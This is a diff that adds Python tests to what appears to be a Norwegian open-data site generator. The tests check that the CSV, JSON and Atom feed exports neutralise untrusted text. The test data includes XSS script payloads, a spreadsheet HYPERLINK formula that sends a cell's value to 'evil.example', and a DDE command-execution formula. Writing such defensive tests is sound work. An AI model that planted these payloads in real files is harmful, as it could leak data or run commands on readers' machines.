@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import re
 import xml.etree.ElementTree as ET
@@ -153,3 +154,130 @@ def test_json_and_csv_made_per_example_equal_whole_document_encoding():
     assert empty == json.dumps({"skjemaversjon": exports.SCHEMA_VERSION, "lisens": exports.LICENCE,
                                 "lisens_url": exports.LICENCE_URL, "antall": 0, "eksempler": []},
                                ensure_ascii=False, indent=1) + "\n"
+
+
+# -- untrusted text in the exports (issue 14) --------------------------------------------------
+
+# What a file of open data must never hold: control characters (but tab, line feed, carriage
+# return), lone surrogates, U+FFFE/U+FFFF (XML 1.0 forbids them; UTF-8 cannot encode surrogates).
+UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]")
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def hostile_bank(**fields):
+    """The test bank with its first example's fields replaced directly — past the field readers,
+    which already refuse control characters: the exporter must hold on its own."""
+    from dataclasses import replace
+    b = make_bank()
+    b.examples[0] = replace(b.examples[0], **fields)
+    return b
+
+
+def well_formed_feed(text: str) -> ET.Element:
+    """Parse as a strict XML 1.0 parser does (expat: any forbidden character is an error)."""
+    assert not UNSAFE.search(text)
+    text.encode("utf-8")
+    return ET.fromstring(text.encode("utf-8"))
+
+
+def test_control_characters_never_reach_a_feed_or_file():
+    from generator.model import Kilde
+    dirty = "Kafe\x00 \x01Posten\x08\x0b\x0c\x1b[31m\x7f\x85\x9f\ud800\ufffe\uffff"
+    b = hostile_bank(tittel=dirty, sammendrag="Slutt\x02 på\x1f setningen.",
+                     kontakt="Rolle\x03", kilder=(Kilde(tittel="Kilde\x04", url="https://x.no/\x05"),))
+    e = b.examples[0]
+    for feed_path, examples in (("feed.xml", b.examples),
+                                ("feed/x.xml", [e for e in b.examples if "\x00" in e.tittel])):
+        feed = well_formed_feed(exports.atom_feed(b, examples, title="T\x06", feed_path=feed_path,
+                                                  site_url="https://x.no/"))
+        first = feed.find(f"{ATOM}entry")
+        assert first.find(f"{ATOM}title").text == "Kafe Posten[31m"
+        assert "Slutt på setningen." in first.find(f"{ATOM}summary").text
+        assert feed.find(f"{ATOM}title").text == "T"
+    files = {f.path: f.content for f in exports.generate(b, "https://x.no/")}
+    assert set(files) >= {"eksempler.json", "eksempler.csv", "feed.xml"}
+    for path, text in files.items():
+        assert not UNSAFE.search(text), path
+        text.encode("utf-8")
+        if path.endswith(".xml"):
+            well_formed_feed(text)
+    rec = next(r for r in json.loads(files["eksempler.json"])["eksempler"] if r["slug"] == e.slug)
+    assert (rec["tittel"], rec["sammendrag"], rec["kontakt"]) == (
+        "Kafe Posten[31m", "Slutt på setningen.", "Rolle")
+    assert rec["kilder"][0]["tittel"] == "Kilde" and rec["kilder"][0]["url"] == "https://x.no/"
+
+
+def test_feeds_escape_markup_and_hostile_site_url():
+    b = hostile_bank(tittel='Kafe <script>alert(1)</script> & "Posten" ]]> \'x\'',
+                     sammendrag="<![CDATA[ x ]]> &amp; <b>fet</b>")
+    site_url = 'https://x.no/"><script>alert(2)</script>/'
+    feed = well_formed_feed(exports.atom_feed(b, b.examples, title="T", feed_path="feed.xml",
+                                              site_url=site_url))
+    entry = feed.find(f"{ATOM}entry")
+    assert entry.find(f"{ATOM}title").text == b.examples[0].tittel
+    assert entry.find(f"{ATOM}summary").text.endswith("<![CDATA[ x ]]> &amp; <b>fet</b>")
+    assert entry.find(f"{ATOM}link").get("href").startswith(site_url.rstrip("/"))
+    assert not feed.findall(".//script") and not feed.findall(f".//{ATOM}script")
+
+
+def spreadsheet_cells(field: str) -> list[str]:
+    """The cells a spreadsheet may make of one CSV field: the field itself, and each part after a
+    semicolon (Excel with Norwegian settings splits a .csv file on «;»), leading spaces dropped."""
+    return [field] + [part.lstrip(" \t") for part in field.split(";")[1:]]
+
+
+def test_csv_formulas_are_neutralised_and_read_back_as_the_text():
+    from dataclasses import replace
+    from generator.model import Kilde
+    starts = ['=HYPERLINK("https://evil.example/?"&A1;"klikk")', "+47 22 00 00 00",
+              "-5 % færre fall", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab først", "\rCR først"]
+    b = make_bank()
+    for i, e in enumerate(b.examples):   # every formula start, in a title or a summary
+        b.examples[i] = replace(e, tittel=starts[i % 6], sammendrag=starts[(i + 3) % 6])
+    b.examples[0] = replace(b.examples[0], kontakt="Rolle;=1+1",
+                            kilder=(Kilde(tittel="=cmd", url="https://x.no/"),
+                                    Kilde(tittel="Rapport; -2 %")))
+    assert {e.tittel for e in b.examples} | {e.sammendrag for e in b.examples} == set(starts)
+    text = exports.examples_csv(b, "https://x.no/")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    data = json.loads(exports.examples_json(b, "https://x.no/"))["eksempler"]
+    assert len(rows) == len(data) == len(b.examples)
+    for row, rec in zip(rows, data):
+        for field, value in row.items():
+            for cell in spreadsheet_cells(value):
+                assert not cell.startswith(FORMULA), (field, value)
+        # The JSON keeps the text; the CSV only adds a ' before the formula character, and a
+        # reader who drops it (as «Åpne data» says) has the text back.
+        assert row["tittel"] == "'" + rec["tittel"]
+        assert row["sammendrag"] == "'" + rec["sammendrag"]
+        for field in ("tittel", "sammendrag", "kontakt"):
+            assert unquote(row[field]) == (rec[field] or "")
+    first = rows[0]
+    assert first["kontakt"] == "Rolle;'=1+1"
+    assert first["kilder"] == "'=cmd <https://x.no/>; Rapport; '-2 %"
+    assert exports.csv_safe("Flere; -2 % og ;@x") == "Flere; '-2 % og ;'@x"
+    # Ordinary text, dates, numbers and URLs are untouched.
+    for plain in ("Tydal; Ulstein", "2021-12-01", "5033", "a - b, c + d = e @ f", "https://x.no/",
+                  "E-post: rolle@kommune.no", "Kafe Posten – møteplass"):
+        assert exports.csv_safe(plain) == plain
+
+
+def unquote(field: str) -> str:
+    """What a reader of the CSV does to get the text back (content/apne-data.md): drop the '
+    before a formula character at the start of the field and after a semicolon."""
+    field = field[1:] if field[:1] == "'" and field[1:2] in FORMULA else field
+    return re.sub(r"(;[ \t]*)'(?=[=+\-@])", r"\1", field)
+
+
+def test_every_feed_and_file_of_the_built_site_is_well_formed(fixture_site):
+    feeds = [fixture_site / "feed.xml", *sorted((fixture_site / "feed").glob("*.xml"))]
+    assert len(feeds) == 1 + len(bank().reference.innsatsomrader)
+    for path in feeds:
+        well_formed_feed(path.read_text(encoding="utf-8"))
+    for name in ("eksempler.json", "eksempler.csv", "eksempler.schema.json", "sitemap.xml"):
+        text = (fixture_site / name).read_text(encoding="utf-8")
+        assert not UNSAFE.search(text), name
+    with open(fixture_site / "eksempler.csv", encoding="utf-8", newline="") as f:
+        for row in csv.DictReader(f):
+            for field, value in row.items():
+                assert not any(c.startswith(FORMULA) for c in spreadsheet_cells(value)), field
